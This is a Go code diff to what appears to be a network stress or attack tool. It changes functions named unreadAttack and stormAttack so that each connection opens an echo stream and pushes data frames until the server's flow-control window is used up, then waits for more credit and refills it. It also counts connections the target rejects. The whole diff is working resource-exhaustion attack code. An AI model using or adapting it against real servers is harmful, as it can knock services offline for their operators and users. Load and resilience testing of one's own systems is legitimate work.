@@ -49,7 +49,7 @@ func (o order) line(i int) (line, error) {
 	if err == nil {
 		var s *session
 		if s, err = a.session(conn); err == nil {
-			l := &tcpLine{session: s, raw: conn}
+			l := &tcpLine{session: s, raw: conn, credit: make(map[uint32]int), news: make(chan struct{}, 1)}
 			conn.SetDeadline(time.Time{})
 			return l, nil
 		}
@@ -62,6 +62,10 @@ type tcpLine struct {
 	*session
 	raw   net.Conn
 	reads sync.Once
+
+	mu     sync.Mutex
+	credit map[uint32]int // that fill has not used
+	news   chan struct{}  // there is more of it, or the end; closed at the end
 }
 
 func (l *tcpLine) open(o order) error {
@@ -74,8 +78,65 @@ func (l *tcpLine) open(o order) error {
 	return l.send(frames...)
 }
 
-func (l *tcpLine) fill() error { return l.session.fill() }
-func (l *tcpLine) close()      { l.raw.Close() }
+func (l *tcpLine) fill() error {
+	l.reads.Do(func() { go l.collect() })
+	id, err := l.session.open("/echo/1")
+	if err != nil {
+		return err
+	}
+	piece := make([]byte, 16<<10)
+	for credit := initialWindow - len(propose("/echo/1")); credit > 0; credit += l.more(id) {
+		for credit > 0 {
+			n := min(credit, len(piece))
+			if err := l.send(dataFrame(0, id, piece[:n])); err != nil {
+				return err
+			}
+			credit -= n
+		}
+	}
+	return nil
+}
+
+// collect reads what comes and keeps the credit.
+func (l *tcpLine) collect() {
+	defer close(l.news)
+	for f, err := l.receive(); err == nil; f, err = l.receive() {
+		if f.typ == typeWindow && f.length > 0 {
+			l.mu.Lock()
+			l.credit[f.id] += int(f.length)
+			l.mu.Unlock()
+			select {
+			case l.news <- struct{}{}:
+			default:
+			}
+		}
+	}
+}
+
+// more gives the credit that comes for a stream, 0 if none comes for a while.
+func (l *tcpLine) more(id uint32) int {
+	timeout := time.NewTimer(200 * time.Millisecond)
+	defer timeout.Stop()
+	for {
+		l.mu.Lock()
+		n := l.credit[id]
+		delete(l.credit, id)
+		l.mu.Unlock()
+		if n > 0 {
+			return n
+		}
+		select {
+		case _, ok := <-l.news:
+			if !ok {
+				return 0
+			}
+		case <-timeout.C:
+			return 0
+		}
+	}
+}
+
+func (l *tcpLine) close() { l.raw.Close() }
 
 type quicLine struct{ conn *quicgo.Conn }
 
@@ -269,9 +330,10 @@ func stormAttack(o order) error {
 	return nil
 }
 
-// unreadAttack fills Rate streams of each line.
+// unreadAttack fills Rate streams of each line. Who is sent away stays away.
 func unreadAttack(o order) error {
 	var ready sync.WaitGroup
+	var away atomic.Int64
 	for i := range o.N {
 		ready.Go(func() {
 			l, err := o.line(i)
@@ -281,12 +343,12 @@ func unreadAttack(o order) error {
 				}
 			}
 			if err != nil {
-				fmt.Println("failed", err)
+				away.Add(1)
 			}
 		})
 	}
 	ready.Wait()
-	begun("%d", o.N)
+	begun("%d, sent away %d", o.N, away.Load())
 	return nil
 }
 
